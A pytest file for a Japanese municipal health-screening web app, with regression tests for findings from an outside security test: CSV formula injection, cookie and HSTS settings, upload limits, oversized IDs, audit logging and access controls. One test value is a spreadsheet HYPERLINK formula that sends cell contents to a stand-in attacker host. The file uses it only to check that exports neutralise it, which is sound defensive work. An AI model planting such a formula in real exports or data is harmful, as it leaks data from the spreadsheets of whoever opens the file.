"""The outside security test's findings (issue 12, docs/SECURITY-TESTING.md): one test or more
per finding, each of which failed before its fix."""
import csv
import io
import pathlib
import re
from datetime import date, timedelta

import pytest

import models
from kenshin import audit
from kenshin.core import dates
from kenshin.core.names import name_key

from .conftest import csrf_from, login, page_csrf

ROOT = pathlib.Path(__file__).resolve().parent.parent
SYSTEM = audit.Actor.system("pytest")
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"詳細")'


def today():
    return dates.today_jst().isoformat()


def make_resident(atena_no, name="千葉 花子", kana="チバ ハナコ", birth=date(1970, 5, 1)):
    return models.Resident.create(
        atena_no=atena_no, name=name, name_kana=kana, kana_key=kana.replace(" ", ""),
        name_key=name_key(name), sex=2, birth_date=birth, address="千葉市中央区1-1",
        updated_at=dates.now_utc())


def queue_item(kana="チバハナコ", birth=date(1970, 5, 1), sex=2):
    """A keyed colorectal form that matched nobody, waiting in the queue."""
    from .factories import INSTITUTION, make_institution

    if not models.Institution.select().where(models.Institution.code == INSTITUTION).exists():
        make_institution()
    return models.QueueItem.create(
        source="keyed", raw={"seiri_no": "", "atena_no": "", "name": "", "name_kana": kana,
                             "birth_date": birth.isoformat(), "sex": str(sex),
                             "exam": "colorectal", "exam_date": "2025-06-01",
                             "institution_code": INSTITUTION, "setting": "1",
                             "items": {"fobt_result": "negative"}},
        reason="該当なし", exam="colorectal", exam_date=date(2025, 6, 1), birth_date=birth, sex=sex,
        kana_key=kana, created_at=dates.now_utc())


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


# --- 2. CSV formulas --------------------------------------------------------------------------

def test_audit_export_guards_a_formula_typed_as_login_id_and_in_a_resident_name(
        app, db, client, login_as):
    page = client.get("/login")
    client.post("/login", data={"csrf_token": csrf_from(page.get_data(as_text=True)),
                                "login_id": FORMULA, "password": "whatever it is"})
    person = make_resident("9001", name="=1+2")
    with models.db.atomic():
        audit.record("resident.view", SYSTEM, resident=person)
    client, _ = login_as("auditor")
    response = client.post("/audit/export", data={
        "csrf_token": page_csrf(client, "/audit/"), "start": today(), "end": today()})
    rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'=1+2" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_one_csv_writer_quotes_every_formula_start(text):
    from kenshin.core.listing import csv_bytes

    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + text]


def test_every_export_goes_through_the_one_csv_writer():
    """Only kenshin/core/listing.py may build a csv.writer: every export gets the guard."""
    writers = [str(path.relative_to(ROOT)) for folder in ("kenshin", "blueprints")
               for path in (ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))]
    assert writers == ["kenshin/core/listing.py"]


# --- 3. cookies behind https --------------------------------------------------------------------

HTTPS = "https://kenshin.example.lan"


@pytest.mark.config(ORIGIN=HTTPS, RP_ID="kenshin.example.lan")
def test_https_origin_gives_a_secure_host_prefixed_cookie_and_hsts(app, db, client, make_staff):
    person = make_staff("clerk")
    page = client.get("/login", base_url=HTTPS)
    assert page.headers["Strict-Transport-Security"].startswith("max-age=")
    response = client.post("/login", base_url=HTTPS, headers={"Referer": HTTPS + "/login"},
                           data={"csrf_token": csrf_from(page.get_data(as_text=True)),
                                 "login_id": person.login_id, "password": person.password})
    assert response.status_code == 200 and "生体認証でログイン" in response.get_data(as_text=True)
    cookie = response.headers["Set-Cookie"]
    assert cookie.startswith("__Host-kenshin=")
    attributes = [part.strip().lower() for part in cookie.split(";")[1:]]
    assert "secure" in attributes and "httponly" in attributes and "samesite=strict" in attributes
    assert "path=/" in attributes and not [a for a in attributes if a.startswith("domain")]
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_an_environment_https_origin_is_honoured_too(monkeypatch, tmp_path):
    from app import create_app

    monkeypatch.setenv("KENSHIN_ORIGIN", HTTPS)
    app = create_app({"SECRET_KEY": "k", "AUDIT_KEY": "k",
                      "DATABASE_URL": f"sqlite:///{tmp_path}/x.db"})
    assert app.config["SESSION_COOKIE_SECURE"] is True
    assert app.config["SESSION_COOKIE_NAME"] == "__Host-kenshin"


def test_plain_http_origin_keeps_an_unprefixed_cookie_without_hsts(app, client):
    response = client.get("/login")
    assert "Strict-Transport-Security" not in response.headers
    assert app.config["SESSION_COOKIE_SECURE"] is False
    assert app.config["SESSION_COOKIE_NAME"] == "kenshin"


# --- 4. huge uploads ----------------------------------------------------------------------------

RESIDENT_HEADER = "atena_no,name,name_kana,sex,birth_date,address"
BAD_ROW = "x,山田,yamada,9,someday,"  # four problems: atena_no, name_kana, sex, birth_date + address


def upload(client, path, content: bytes, name="residents.csv"):
    token = page_csrf(client, path.replace("/preview", "" if path.startswith("/imports") else "/"))
    return client.post(path, data={"csrf_token": token, "encoding": "utf-8",
                                   "file": (io.BytesIO(content), name)},
                       content_type="multipart/form-data")


def bad_file(rows: int) -> bytes:
    return (RESIDENT_HEADER + "\n" + "\n".join([BAD_ROW] * rows) + "\n").encode()


def events(action):
    return list(models.AuditEvent.select().where(models.AuditEvent.action == action)
                .order_by(models.AuditEvent.seq))


def test_a_file_of_bad_rows_keeps_the_first_thousand_problems_and_counts_the_rest(
        app, db, client, login_as):
    login_as("admin")
    response = upload(client, "/imports/residents/preview", bad_file(1500))
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert len(re.findall(r"<li>\d+行目 ", html)) == 1000
    assert "問題が7500件" in html and "ほか6500件" in html
    assert "<li>2行目 宛名番号: " in html and "1501行目" not in html
    [rejected] = events("import.residents")
    assert rejected.outcome == "rejected" and rejected.details["problems"] == 7500


def test_the_kept_problems_are_the_first_by_line_and_memory_stays_bounded(app, db):
    """20,000 bad rows: the reader keeps 1,000 problems and never a list of every line."""
    import tracemalloc

    from kenshin.imports import csvimport
    from kenshin.registry import resident_import

    data = bad_file(20_000)
    source = csvimport.Source.from_bytes("bad.csv", data)
    tracemalloc.start()
    result = resident_import.check(source, problem_limit=1000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(result.problems) == 1000 and result.problem_count == 100_000
    assert result.problems[0].line == 2 and result.problems[-1].line == 201
    # Before the fix every problem and every decoded line was kept: about 60 times the file.
    assert peak < 12 * len(data), (peak, len(data))


def test_an_upload_is_audited_before_it_is_read(app, db, client, login_as, monkeypatch):
    """A worker that dies while reading (memory, timeout) still leaves the attempt in the log."""
    from kenshin.registry import resident_import

    login_as("admin")

    def dies(*args, **kwargs):
        raise MemoryError("the worker ran out of memory")
    monkeypatch.setattr(resident_import, "_check_rows", dies)
    content = bad_file(3)
    with pytest.raises(MemoryError):
        upload(client, "/imports/residents/preview", content)
    [received] = events("import.upload")
    assert received.details["file"] == "residents.csv" and received.details["bytes"] == len(content)
    assert received.details["kind"] == "residents" and len(received.details["sha256"]) == 64
    assert events("import.residents") == [] and events("import.residents.preview") == []


def test_result_file_uploads_are_audited_before_they_are_read_too(app, db, client, login_as):
    login_as("supervisor")
    upload(client, "/result-files/preview", b"nonsense\n1\n", name="results.csv")
    [received] = events("import.upload")
    assert received.details["kind"] == "results"
    assert received.seq < events("import.results")[0].seq


def test_deploy_states_the_upload_limit_and_the_worker_timeout(app):
    limit_mb = app.config["MAX_CONTENT_LENGTH"] // (1024 * 1024)
    nginx = (ROOT / "deploy" / "nginx.conf").read_text("utf-8")
    service = (ROOT / "deploy" / "kenshin.service").read_text("utf-8")
    readme = (ROOT / "deploy" / "README.md").read_text("utf-8")
    assert f"client_max_body_size {limit_mb}m;" in nginx
    timeout = re.search(r"--timeout (\d+)", service)
    assert timeout and f"--timeout {timeout[1]}" in readme and f"{limit_mb} MB" in readme
    assert re.search(r"proxy_read_timeout (\d+)s", nginx)[1] == timeout[1]


# --- 5. the maintainer's import preview ---------------------------------------------------------

FULL_HEADER = "atena_no,name,name_kana,sex,birth_date,address,removed_on"


def stored_since(atena="7001"):
    person = make_resident(atena)
    person.resident_since = date(2001, 4, 1)
    person.save()
    return person


def probe(removed_on: str, atena="7001") -> bytes:
    """A file moving 消除日: with the stored 住民となった日 a preview would say which is earlier."""
    return (FULL_HEADER + f"\n{atena},千葉 花子,チバ ハナコ,2,1970-05-01,千葉市中央区1-1,{removed_on}\n"
            ).encode()


def test_an_administrators_preview_compares_with_the_stored_record(app, db, client, login_as):
    stored_since()
    login_as("admin")
    html = upload(client, "/imports/residents/preview", probe("2000-01-01")).get_data(as_text=True)
    assert "消除日が住民となった日より前です" in html


def test_a_maintainers_preview_checks_the_file_alone(app, db, client, login_as):
    stored_since()
    login_as("maintainer")
    early = upload(client, "/imports/residents/preview", probe("2000-01-01"))
    late = upload(client, "/imports/residents/preview", probe("2002-01-01"))
    for response in (early, late):
        html = response.get_data(as_text=True)
        assert response.status_code == 200 and "ファイルの1行に問題はありません" in html
        assert "住民となった日" not in html and "変更なし" not in html
    # Confirming the early one: refused, with a count but neither the line's reason nor the item.
    token = re.search(r'name="token" value="([^"]+)"', early.get_data(as_text=True))[1]
    confirm = client.post("/imports/residents/confirm",
                          data={"csrf_token": page_csrf(client), "token": token})
    html = confirm.get_data(as_text=True)
    assert confirm.status_code == 422 and "登録済みの住民記録と合わない行が1件" in html
    assert "住民となった日" not in html and "line 2" not in html and "2行目" not in html
    assert models.Resident.get(models.Resident.atena_no == "7001").removed_on is None
    previews = events("import.residents.preview")
    assert [e.details.get("file_alone") for e in previews] == [True, True]


def test_repeated_rejected_imports_appear_on_the_unusual_access_list(app, db, client, login_as,
                                                                    make_staff):
    from .conftest import login

    stored_since()
    maintainer = make_staff("maintainer", login_id="probe", name="委託 太郎", division="保守業者")
    assert login(client, maintainer).get_json()["ok"]
    for removed in ("1960-01-01", "2999-01-01", "x"):  # before birth, future, not a date
        upload(client, "/imports/residents/preview", probe(removed))
    auditor = app.test_client()
    assert login(auditor, make_staff("auditor")).get_json()["ok"]
    html = auditor.get(f"/unusual-access/?start={today()}&end={today()}").get_data(as_text=True)
    section = html.split('id="rejected-imports"')[1].split("</section>")[0]
    assert "委託 太郎" in section and "3回" in section
    assert events("audit.unusual_review")[-1].details["rejected_imports"] == 1


# --- 6. numbers beyond the databases' integer range ---------------------------------------------

HUGE = "1" * 25


def test_every_integer_route_answers_404_for_a_25_digit_id(app, db, client, make_staff):
    from werkzeug.routing.converters import NumberConverter

    person = make_staff("clerk", "supervisor", "admin", "auditor", "maintainer")
    assert login(client, person).get_json()["ok"]
    token = page_csrf(client)
    walked = 0
    for rule in app.url_map.iter_rules():
        numeric = [a for a in rule.arguments if isinstance(rule._converters[a], NumberConverter)]
        if not numeric:
            continue
        url = rule.rule
        for arg in rule.arguments:
            url = re.sub(r"<[^>]*:?%s>" % arg, HUGE if arg in numeric else "x", url)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            response = client.open(url, method=method, headers={"X-CSRFToken": token})
            assert response.status_code == 404, (method, url, response.status_code)
            walked += 1
    assert walked > 30


@pytest.mark.parametrize("path", ["/admin/staff?page=" + HUGE, "/admin/sessions?page=" + HUGE,
                                  "/queue/?page=" + HUGE, "/inquiries/?page=" + HUGE,
                                  "/disclosures/?page=" + HUGE, "/inquiries/?staff=" + HUGE])
def test_query_numbers_beyond_the_range_are_refused_or_clamped(app, db, client, make_staff, path):
    person = make_staff("clerk", "supervisor", "admin")
    assert login(client, person).get_json()["ok"]
    response = client.get(path)
    assert response.status_code in (200, 422), response.status_code


@pytest.mark.parametrize("path", ["/inquiries/new", "/disclosures/new"])
def test_a_posted_resident_id_beyond_the_range_is_refused(app, db, client, make_staff, path):
    make_resident("5001")
    person = make_staff("clerk", "supervisor")
    assert login(client, person).get_json()["ok"]
    response = client.post(path, data={"csrf_token": page_csrf(client, path), "atena_no": "5001",
                                       "resident_id": HUGE, "subject": "x", "channel": "窓口",
                                       "kind": "disclosure", "requester_name": "千葉 花子"})
    assert response.status_code == 422, response.status_code


def test_a_queue_assignment_to_a_resident_id_beyond_the_range_is_refused(app, db, client,
                                                                        make_staff):
    item = queue_item()
    person = make_staff("clerk")
    assert login(client, person).get_json()["ok"]
    response = client.post(f"/queue/{item.id}/assign", data={
        "csrf_token": page_csrf(client, f"/queue/{item.id}"), "resident_id": HUGE})
    assert response.status_code == 422, response.status_code


# --- 7. entry look-ups ----------------------------------------------------------------------------

def entry_clerk(login_as):
    client, person = login_as("clerk")
    client.environ_base["HTTP_X_CSRFTOKEN"] = page_csrf(client)
    return client


def searches():
    return [e for e in events("resident.search") if (e.details or {}).get("screen") == "entry"]


def test_every_failed_entry_lookup_is_audited_with_its_criteria(app, db, login_as):
    client = entry_clerk(login_as)
    for number in ("900001", "900002", "900003", "900004", "900005"):
        response = client.post("/entry/lookup", data={"atena_no": number, "sheet": "1"},
                               headers={"HX-Request": "true"})
        assert response.status_code == 200
    found = searches()
    assert [e.details["criteria"] for e in found] == [
        {"atena_no": n} for n in ("900001", "900002", "900003", "900004", "900005")]
    assert all(e.details["hits"] == 0 and e.outcome == "not_found" for e in found)


def test_an_entry_lookup_that_finds_someone_names_its_criteria_and_hit(app, db, login_as):
    person = make_resident("900010")
    client = entry_clerk(login_as)
    client.post("/entry/lookup", data={"atena_no": "900010", "sheet": "1"},
                headers={"HX-Request": "true"})
    [view] = events("resident.view")
    assert view.resident_id == person.id
    assert view.details["criteria"] == {"atena_no": "900010"} and view.details["hits"] == 1


def test_an_entry_candidate_search_keeps_its_criteria_and_hit_count(app, db, login_as):
    make_resident("900020", kana="チバ ハナコ", birth=date(1970, 5, 1))
    client = entry_clerk(login_as)
    client.post("/entry/lookup", data={"name_kana": "ちば はなこ", "birth_date": "1970-05-01",
                                       "sex": "2", "sheet": "1"}, headers={"HX-Request": "true"})
    [search] = searches()
    assert search.details["criteria"] == {"name_kana": "チバ　ハナコ", "birth_date": "1970-05-01",
                                          "sex": 2}
    assert search.details["hits"] == 1


# --- 8. an enrollment link opened while signed in; the design point --------------------------------

def enroll_with(client, token, authenticator, password="correct horse battery staple"):
    """What the new person does with the link: password and first authenticator."""
    assert client.get(f"/enroll/{token}").headers["Location"].endswith("/enroll")
    page = client.get("/enroll")
    csrf = csrf_from(page.get_data(as_text=True))
    checked = client.post("/enroll/check", json={"password": password, "password_confirm": password},
                          headers={"X-CSRFToken": csrf})
    assert checked.status_code == 200, checked.get_json()  # the password first (issue 14)
    options = client.post("/enroll/options", headers={"X-CSRFToken": csrf})
    return client.post("/enroll/complete", json={
        "password": password, "password_confirm": password, "nickname": "窓口PC",
        "credential": authenticator.register(options.get_json())}, headers={"X-CSRFToken": csrf})


def new_account(admin_person, login_id="newclerk", terminal="127.0.0.1"):
    from kenshin.access import staff as staff_domain

    return staff_domain.create(login_id, "新人 花子", "健康支援課", ["clerk"],
                               audit.Actor.of_staff(admin_person.staff, terminal))


def test_opening_an_enrollment_link_while_signed_in_ends_the_server_session(
        app, db, client, make_staff):
    admin = make_staff("admin")
    assert login(client, admin).get_json()["ok"]
    with client.session_transaction() as flask_session:
        sid = flask_session["sid"]
    _, token = new_account(admin)
    assert client.get(f"/enroll/{token}").status_code == 303
    [row] = list(models.UserSession.select().where(models.UserSession.staff == admin.staff.id))
    assert row.ended_at is not None and row.end_reason == "enroll_link"
    ended = events("session.end")[-1]
    assert ended.actor_id == admin.staff.id and ended.details["why"] == "enroll_link"
    assert client.get("/").headers["Location"].endswith("/login")
    assert sid  # the old cookie value names an ended session now


def test_the_enrolled_person_sees_when_and_where_at_first_sign_in(app, db, client, make_staff, rp):
    from .conftest import Person
    from .softauthn import SoftAuthenticator

    admin = make_staff("admin")
    staff, token = new_account(admin, terminal="10.9.9.9")
    authenticator = SoftAuthenticator(origin=rp.origin, rp_id=rp.rp_id)
    assert enroll_with(app.test_client(), token, authenticator).get_json()["ok"]
    person = Person(models.Staff.get_by_id(staff.id), "correct horse battery staple", authenticator)
    assert login(client, person).get_json()["ok"]
    html = client.get("/").get_data(as_text=True)
    assert "このアカウントの利用登録" in html and "127.0.0.1" in html
    assert dates.to_jst(events("staff.enroll")[-1].at).strftime("%H:%M") in html
    again = app.test_client()
    assert login(again, person).get_json()["ok"]
    assert "このアカウントの利用登録" not in again.get("/").get_data(as_text=True)


def test_an_enrollment_from_the_issuing_administrators_terminal_is_flagged(
        app, db, client, make_staff, rp):
    from .softauthn import SoftAuthenticator

    admin = make_staff("admin", login_id="boss", name="管理 太郎")
    assert login(client, admin).get_json()["ok"]
    _, token = new_account(admin, login_id="puppet")
    authenticator = SoftAuthenticator(origin=rp.origin, rp_id=rp.rp_id)
    # The administrator enrolls the new account in their own browser, on their own terminal.
    assert enroll_with(client, token, authenticator).get_json()["ok"]
    enrolled = events("staff.enroll")[-1]
    assert enrolled.details["issued_by"] == "boss"
    assert enrolled.details["same_terminal_as_issuer"] is True
    assert enrolled.details["opened_in_session_of"] == "boss"
    # A fair one: issued from another terminal, enrolled elsewhere, no session open.
    _, other = new_account(admin, login_id="fair", terminal="10.1.1.1")
    assert enroll_with(app.test_client(), other,
                       SoftAuthenticator(origin=rp.origin, rp_id=rp.rp_id)).get_json()["ok"]
    assert "same_terminal_as_issuer" not in events("staff.enroll")[-1].details
    auditor = app.test_client()
    assert login(auditor, make_staff("auditor")).get_json()["ok"]
    html = auditor.get(f"/unusual-access/?start={today()}&end={today()}").get_data(as_text=True)
    section = html.split('id="self-enrolled"')[1].split("</section>")[0]
    assert "puppet" in section and "管理 太郎" in section and "fair" not in section
    assert events("audit.unusual_review")[-1].details["self_enrolled"] == 1


# --- 1. people outside the programme --------------------------------------------------------------

CHILD_KANA = "コドモ ハナコ"
HX = {"HX-Request": "true"}


def child(atena="600019", **extra):
    """A 19-year-old with no screening: outside the programme."""
    from kenshin.registry.residents import programme_birth_cutoff

    birth = programme_birth_cutoff(dates.today_jst()) + timedelta(days=1)
    return make_resident(atena, name="子供 花子", kana=CHILD_KANA, birth=birth, **extra)


def screening_of(person, status):
    from .factories import make_screening

    return make_screening(person, exam="cervical", status=status,
                          items={"symptoms": "0", "referral": "0"})


def staff_client(login_as, *roles):
    client, person = login_as(*roles)
    client.environ_base["HTTP_X_CSRFTOKEN"] = page_csrf(client)
    return client, person


def shows_nothing_of(response, person):
    """Neither the name nor the address (a typed 宛名番号 may be echoed back in its field)."""
    html = response.get_data(as_text=True)
    return person.name not in html and person.address not in html


def test_screening_pages_of_someone_outside_the_programme_answer_404(app, db, login_as):
    client, _ = staff_client(login_as, "clerk")
    young = child()
    for path in (f"/screenings/person/{young.id}", f"/screenings/summary/{young.id}"):
        response = client.get(path)
        assert response.status_code == 404 and shows_nothing_of(response, young), path


def test_entry_lookup_and_candidates_do_not_show_someone_outside_the_programme(app, db, login_as):
    client, _ = staff_client(login_as, "clerk")
    young = child()
    by_number = client.post("/entry/lookup", data={"atena_no": young.atena_no, "sheet": "1"},
                            headers=HX)
    assert shows_nothing_of(by_number, young)
    by_kana = client.post("/entry/lookup", data={
        "name_kana": CHILD_KANA, "birth_date": young.birth_date.isoformat(), "sex": "2",
        "sheet": "1"}, headers=HX)
    assert shows_nothing_of(by_kana, young)
    assert events("resident.view") == []


def test_entry_preview_and_save_refuse_someone_outside_the_programme(app, db, login_as):
    from .factories import INSTITUTION, make_institution

    make_institution()
    client, _ = staff_client(login_as, "clerk")
    young = child()
    client.post("/entry/batch", data={"institution_code": INSTITUTION, "setting": "1",
                                      "exam": "cervical"}, headers=HX)
    form = {"name_kana": CHILD_KANA, "birth_date": "", "sex": "", "exam_date": "R7.6.2",
            "symptoms": "0", "referral": "0", "sheet": "1"}
    check = client.post("/entry/check", data=dict(form, matched_id=str(young.id), field="exam_date"),
                        headers=HX)
    assert f"{dates.age_at(young.birth_date, date(2025, 6, 2))}歳" not in check.get_data(as_text=True)
    by_number = client.post("/entry/save", data=dict(form, atena_no=young.atena_no), headers=HX)
    by_choice = client.post("/entry/save", data=dict(
        form, birth_date=young.birth_date.isoformat(), sex="2", resident_id=str(young.id)),
        headers=HX)
    for response in (by_number, by_choice):
        assert response.status_code == 422 and shows_nothing_of(response, young)
    assert models.Screening.select().count() == 0


def test_queue_candidates_and_assignment_leave_out_someone_outside_the_programme(
        app, db, login_as):
    client, _ = staff_client(login_as, "clerk")
    young = child()
    item = queue_item(kana="コドモハナコ", birth=young.birth_date, sex=2)
    page = client.get(f"/queue/{item.id}")
    assert page.status_code == 200 and shows_nothing_of(page, young)
    for data in ({"resident_id": str(young.id)}, {"atena_no": young.atena_no}):
        response = client.post(f"/queue/{item.id}/assign", data=dict(data, note="確認済み"))
        assert response.status_code == 422 and shows_nothing_of(response, young)
    assert models.Screening.select().count() == 0


def test_a_supervisor_may_record_a_form_for_someone_outside_the_programme_explicitly(
        app, db, login_as):
    client, boss = staff_client(login_as, "supervisor")
    young = child()
    item = queue_item(kana="コドモハナコ", birth=young.birth_date, sex=2)
    without_reason = client.post(f"/queue/{item.id}/assign", data={
        "atena_no": young.atena_no, "outside_programme": "1", "note": ""})
    assert without_reason.status_code == 422
    response = client.post(f"/queue/{item.id}/assign", data={
        "atena_no": young.atena_no, "outside_programme": "1", "note": "医師に確認、本人の受診"})
    assert response.status_code == 303
    [screening] = list(models.Screening.select())
    assert screening.resident_id == young.id
    [decision] = events("resident.outside_programme")
    assert decision.actor_id == boss.staff.id and decision.resident_id == young.id
    assert decision.details["reason"] == "医師に確認、本人の受診"


def test_a_clerk_cannot_make_that_decision(app, db, login_as):
    client, _ = staff_client(login_as, "clerk")
    young = child()
    item = queue_item(kana="コドモハナコ", birth=young.birth_date, sex=2)
    response = client.post(f"/queue/{item.id}/assign", data={
        "atena_no": young.atena_no, "outside_programme": "1", "note": "理由"})
    assert response.status_code == 422 and models.Screening.select().count() == 0
    assert events("resident.outside_programme") == []


@pytest.mark.parametrize("path", ["/inquiries/new", "/disclosures/new"])
def test_a_hand_built_final_post_cannot_attach_someone_outside_the_programme(
        app, db, login_as, path):
    client, _ = staff_client(login_as, "clerk", "supervisor")
    young = child()
    response = client.post(path, data={
        "received_date": "令和7年6月2日", "received_time": "9:30", "channel": "窓口",
        "requester_type": "本人", "requester_name": "子供 花子", "subject": "結果",
        "kind": "disclosure", "received_on": "R7.4.1", "requester_relation": "本人",
        "identity_document": "個人番号カード", "atena_no": young.atena_no,
        "resident_id": str(young.id)})
    assert response.status_code == 422 and young.address not in response.get_data(as_text=True)
    assert models.Inquiry.select().count() == 0 and models.DisclosureRequest.select().count() == 0


def test_only_a_confirmed_screening_brings_someone_into_the_programme(app, db, login_as):
    client, _ = staff_client(login_as, "clerk")
    young = child()
    screening = screening_of(young, "pending")
    assert client.get(f"/residents/{young.id}").status_code == 404
    assert client.get(f"/screenings/person/{young.id}").status_code == 404
    screening.status = "confirmed"
    screening.save()
    assert client.get(f"/residents/{young.id}").status_code == 200
    assert client.get(f"/screenings/person/{young.id}").status_code == 200
